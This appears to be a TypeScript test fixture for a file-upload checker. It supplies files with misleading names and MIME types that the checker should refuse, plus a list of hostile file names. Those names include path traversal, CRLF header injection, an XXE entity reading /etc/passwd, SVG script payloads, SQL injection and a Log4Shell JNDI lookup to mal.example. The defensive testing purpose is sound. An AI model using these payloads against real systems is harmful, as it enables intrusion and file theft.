// Other kinds of files under names that lie, and good files under names that are none.
import { gzipSync } from "node:zlib";
import { photo } from "../../files";
import { harmless, html, refused, text, type Hostile } from "./make";

/** Other kinds of files, under names and types that lie. */
export async function disguised(): Promise<Hostile[]> {
  const jpeg = await photo();
  const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
  const others: readonly (readonly [string, Buffer])[] = [
    ["SVG", svg],
    ["SVG with a head", Buffer.concat([text('<?xml version="1.0"?>'), svg])],
    ["HTML", text(html)],
    ["HTML with a mark", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(html)])],
    ["XML with an entity", text('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')],
    ["GIF", Buffer.concat([text("GIF89a"), Buffer.alloc(40)])],
    ["GIF that is a script", text("GIF89a=1;alert(1)//")],
    ["WebP", Buffer.concat([text("RIFF\u0020\u0000\u0000\u0000WEBPVP8 "), Buffer.alloc(40)])],
    ["HEIC", Buffer.concat([Buffer.from([0, 0, 0, 24]), text("ftypheic"), Buffer.alloc(40)])],
    ["AVIF", Buffer.concat([Buffer.from([0, 0, 0, 28]), text("ftypavif"), Buffer.alloc(40)])],
    ["TIFF", Buffer.concat([text("II*\u0000"), Buffer.alloc(40)])],
    ["BMP", Buffer.concat([text("BM"), Buffer.alloc(60)])],
    ["JPEG XL", Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(40)])],
    ["ZIP", Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(40)])],
    ["gzip", gzipSync(Buffer.alloc(1_000))],
    ["a program for Windows", Buffer.concat([text("MZ\u0090\u0000"), Buffer.alloc(60)])],
    ["a program for Linux", Buffer.concat([text("\u007fELF"), Buffer.alloc(60)])],
    ["an old Word", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(60)])],
    ["RTF", text("{\\rtf1 bonjour}")],
    ["PostScript", text("%!PS-Adobe-3.0\n(x) run")],
    ["text", text("Bonjour")],
    ["nulls", Buffer.alloc(5_000)],
    ["nothing", Buffer.alloc(0)],
    ["one byte", Buffer.from([0xff])],
  ];
  const disguises = [
    ["a.jpg", "image/jpeg"],
    ["a.png", "image/png"],
    ["a.pdf", "application/pdf"],
  ] as const;
  const lies = [
    ["a.png", "image/jpeg"],
    ["a.jpg", "image/png"],
    ["a.pdf", "image/jpeg"],
    ["a.jpg", "application/pdf"],
    ["a.jpg", "text/html"],
    ["a.html", "image/jpeg"],
    ["a.svg", "image/jpeg"],
    ["a.jpg.exe", "image/jpeg"],
    ["a.php", "image/jpeg"],
    ["a.jpg", "image/svg+xml"],
    ["a.heic", "image/heic"],
    ["a.jpg", "multipart/form-data"],
  ] as const;
  return [
    ...others.flatMap(([what, bytes]) => disguises.map(([name, type]) => refused(`${what} called ${name}`, bytes, name, type))),
    ...lies.map(([name, type]) => refused(`a JPEG called ${name}, of type ${type}`, jpeg, name, type)),
    refused("more than 10 MB", Buffer.concat([jpeg, Buffer.alloc(10_000_000)]), "a.jpg", "image/jpeg"),
    refused("10 MB and one byte of PDF", Buffer.concat([text("%PDF-1.7\n"), Buffer.alloc(9_999_992)])),
  ];
}

/** Good files with names that are none: what counts is the name they are given back under. */
export const hostileNames: readonly string[] = [
  "../../../etc/passwd.jpg",
  "..\\..\\windows\\system.jpg",
  "/etc/cron.d/a.jpg",
  "C:\\Users\\a.jpg",
  "a\u0000.jpg",
  "a\r\nSet-Cookie: x=1.jpg",
  "a\nContent-Type: text/html.jpg",
  'a"; filename="b.html.jpg',
  "a%22%0d%0aX: y.jpg",
  "\u202egpj.exe.jpg",
  "\u2066a\u2069.jpg",
  "<script>alert(1)</script>.jpg",
  "${jndi:ldap://mal.example}.jpg",
  "{{7*7}}.jpg",
  "'; drop table document; --.jpg",
  `${"a".repeat(3_000)}.jpg`,
  `${"é".repeat(500)}.jpg`,
  "😀".repeat(200) + ".jpg",
  ".jpg",
  "...jpg",
  "   .jpg",
  "con.jpg",
  "a:b:c.jpg",
  "مستند.jpg",
  "Résumé d’Yasmina.jpg",
  "a\u200b\u200c\u200d.jpg",
  "\ud800.jpg",
  "a\t\v\f.jpg",
];

export async function named(): Promise<Hostile[]> {
  const bytes = await photo();
  return hostileNames.map((name) => harmless(`the name ${JSON.stringify(name).slice(0, 60)}`, bytes, ["GPS", "Exif"], name));
}
